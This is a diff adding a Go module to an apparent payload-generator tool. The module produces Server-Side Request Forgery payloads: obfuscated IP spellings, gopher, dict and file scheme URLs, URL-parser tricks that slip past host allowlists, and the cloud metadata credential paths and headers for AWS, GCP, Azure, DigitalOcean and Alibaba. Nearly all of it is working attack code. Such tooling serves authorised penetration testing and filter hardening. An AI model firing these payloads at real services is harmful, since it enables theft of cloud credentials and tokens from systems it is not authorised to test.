@@ -0,0 +1,201 @@
+package modules
+
+import (
+	"fmt"
+	"net"
+	"strings"
+
+	"github.com/rajaabdullahnasir/Custom-Payload-Generator/utils"
+)
+
+// defaultSSRFTarget is used when --ssrf-target is not given; point it at `payloadgen canary` to test safely
+const defaultSSRFTarget = "127.0.0.1:8089"
+
+// defaultAllowedHost stands in for the host an allowlist accepts when --allowed-host is not given
+const defaultAllowedHost = "example.com"
+
+type SSRFPayload struct {
+	Category  string          `json:"category"` // ip-encoding, scheme, parser-confusion, metadata, metadata-address
+	Technique string          `json:"technique"`
+	URL       string          `json:"url"`
+	Header    string          `json:"header,omitempty"` // request header the endpoint requires, if any
+	Encodings []utils.Variant `json:"encodings,omitempty"`
+}
+
+// Text returns the delivered form of the SSRF payload
+func (p SSRFPayload) Text() string {
+	return p.URL
+}
+
+func init() {
+	register("ssrf", "Generate Server-Side Request Forgery payloads", GenerateSSRFPayloads)
+}
+
+// hostVariant is an alternate spelling of the target host
+type hostVariant struct {
+	Technique string
+	Host      string
+}
+
+// ipv4Variants spells an IPv4 address in the forms URL parsers and resolvers accept
+func ipv4Variants(ip net.IP) []hostVariant {
+	b := ip.To4()
+	n := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
+	return []hostVariant{
+		{"decimal", fmt.Sprintf("%d", n)},
+		{"hex", fmt.Sprintf("0x%08x", n)},
+		{"octal", fmt.Sprintf("0%o", n)},
+		{"dotted-hex", fmt.Sprintf("0x%02x.0x%02x.0x%02x.0x%02x", b[0], b[1], b[2], b[3])},
+		{"dotted-octal", fmt.Sprintf("0%o.0%o.0%o.0%o", b[0], b[1], b[2], b[3])},
+		{"zero-padded", fmt.Sprintf("%03d.%03d.%03d.%03d", b[0], b[1], b[2], b[3])},
+		{"mixed", fmt.Sprintf("0x%02x.%d.0%o.%d", b[0], b[1], b[2], b[3])},
+		{"short-2", fmt.Sprintf("%d.%d", b[0], n&0xffffff)},
+		{"short-3", fmt.Sprintf("%d.%d.%d", b[0], b[1], n&0xffff)},
+		{"ipv6-mapped", fmt.Sprintf("[::ffff:%s]", ip.To4())},
+		{"ipv6-mapped-hex", fmt.Sprintf("[::ffff:%02x%02x:%02x%02x]", b[0], b[1], b[2], b[3])},
+		{"ipv6-compat", fmt.Sprintf("[::%s]", ip.To4())},
+	}
+}
+
+// ipv6Expanded writes an IPv6 address with every group in full
+func ipv6Expanded(ip net.IP) string {
+	b := ip.To16()
+	groups := make([]string, 8)
+	for i := range groups {
+		groups[i] = fmt.Sprintf("%02x%02x", b[2*i], b[2*i+1])
+	}
+	return "[" + strings.Join(groups, ":") + "]"
+}
+
+// hostVariants spells a host in the alternate forms URL parsers and resolvers accept,
+// leaving out forms that happen to match the host as given
+func hostVariants(host string) []hostVariant {
+	var all []hostVariant
+	ip := net.ParseIP(host)
+	switch {
+	case ip == nil:
+		all = []hostVariant{{"trailing-dot", host + "."}, {"uppercase", strings.ToUpper(host)}}
+	case ip.To4() != nil:
+		all = ipv4Variants(ip)
+	default:
+		all = []hostVariant{{"ipv6-expanded", ipv6Expanded(ip)}}
+	}
+
+	var variants []hostVariant
+	for _, v := range all {
+		if v.Host != host {
+			variants = append(variants, v)
+		}
+	}
+	return variants
+}
+
+// splitTarget separates an optional port from the target host
+func splitTarget(target string) (host, port string) {
+	if h, p, err := net.SplitHostPort(target); err == nil {
+		return h, p
+	}
+	return strings.Trim(target, "[]"), ""
+}
+
+// metadataEndpoints are the instance-metadata services of the major clouds. Their paths are also
+// requested on the target so they can be exercised against a local canary.
+var metadataEndpoints = []struct {
+	Technique string
+	Host      string
+	Path      string
+	Header    string
+}{
+	{"aws", "169.254.169.254", "/latest/meta-data/iam/security-credentials/", ""},
+	{"aws-imdsv2-token", "169.254.169.254", "/latest/api/token", "X-aws-ec2-metadata-token-ttl-seconds: 21600"},
+	{"aws-ipv6", "fd00:ec2::254", "/latest/meta-data/iam/security-credentials/", ""},
+	{"gcp", "metadata.google.internal", "/computeMetadata/v1/instance/service-accounts/default/token", "Metadata-Flavor: Google"},
+	{"gcp-ip", "169.254.169.254", "/computeMetadata/v1/instance/service-accounts/default/token", "Metadata-Flavor: Google"},
+	{"azure", "169.254.169.254", "/metadata/instance?api-version=2021-02-01", "Metadata: true"},
+	{"digitalocean", "169.254.169.254", "/metadata/v1.json", ""},
+	{"alibaba", "100.100.100.200", "/latest/meta-data/ram/security-credentials/", ""},
+}
+
+// GenerateSSRFPayloads builds URLs for --ssrf-target: alternate IP spellings, non-HTTP schemes,
+// URL-parser confusion against each {{allowed}} host, cloud-metadata paths on the target and the real
+// metadata addresses in every alternate spelling
+func GenerateSSRFPayloads(opts Options) ([]SSRFPayload, error) {
+	target := opts.SSRFTarget
+	if target == "" {
+		target = defaultSSRFTarget
+	}
+
+	host, port := splitTarget(target)
+	if host == "" {
+		return nil, fmt.Errorf("invalid SSRF target %q", target)
+	}
+	withPort := func(h string) string {
+		if port == "" {
+			return h
+		}
+		return h + ":" + port
+	}
+
+	var payloads []SSRFPayload
+	add := func(category, technique, url, header string) {
+		payloads = append(payloads, SSRFPayload{
+			Category:  category,
+			Technique: technique,
+			URL:       url,
+			Header:    header,
+			Encodings: utils.EncodeVariants(url, opts.encoders()),
+		})
+	}
+
+	hostPort := withPort(bracketIPv6(host))
+	add("ip-encoding", "original", "http://"+hostPort+"/", "")
+	for _, v := range hostVariants(host) {
+		add("ip-encoding", v.Technique, "http://"+withPort(v.Host)+"/", "")
+	}
+
+	vars := opts.templateVars()
+	for _, marker := range vars["marker"] {
+		add("scheme", "gopher", "gopher://"+hostPort+"/_GET%20/"+marker+"%20HTTP/1.0%0d%0a%0d%0a", "")
+		add("scheme", "dict", "dict://"+hostPort+"/info:"+marker, "")
+	}
+	for _, file := range vars["unix_file"] {
+		add("scheme", "file", "file://"+file, "")
+	}
+	add("scheme", "https", "https://"+hostPort+"/", "")
+	add("scheme", "ftp", "ftp://"+hostPort+"/", "")
+
+	for _, allowed := range vars["allowed"] {
+		confusions := []hostVariant{
+			{"userinfo", "http://" + allowed + "@" + hostPort + "/"},
+			{"userinfo-port", "http://" + allowed + ":80@" + hostPort + "/"},
+			{"fragment", "http://" + hostPort + "#@" + allowed + "/"},
+			{"query", "http://" + hostPort + "?@" + allowed + "/"},
+			{"backslash", "http://" + hostPort + `\@` + allowed + "/"},
+			{"backslash-userinfo", "http://" + allowed + `\@` + hostPort + "/"},
+			{"encoded-at", "http://" + allowed + "%40" + hostPort + "/"},
+			{"space-userinfo", "http://" + allowed + " &@" + hostPort + "# @" + allowed + "/"},
+		}
+		for _, c := range confusions {
+			add("parser-confusion", c.Technique, c.Host, "")
+		}
+	}
+
+	for _, m := range metadataEndpoints {
+		add("metadata", m.Technique, "http://"+hostPort+m.Path, m.Header)
+	}
+	for _, m := range metadataEndpoints {
+		add("metadata-address", m.Technique, "http://"+bracketIPv6(m.Host)+m.Path, m.Header)
+		for _, v := range hostVariants(m.Host) {
+			add("metadata-address", m.Technique+"-"+v.Technique, "http://"+v.Host+m.Path, m.Header)
+		}
+	}
+	return payloads, nil
+}
+
+// bracketIPv6 wraps bare IPv6 addresses in brackets for use in a URL
+func bracketIPv6(host string) string {
+	if strings.Contains(host, ":") {
+		return "[" + host + "]"
+	}
+	return host
+}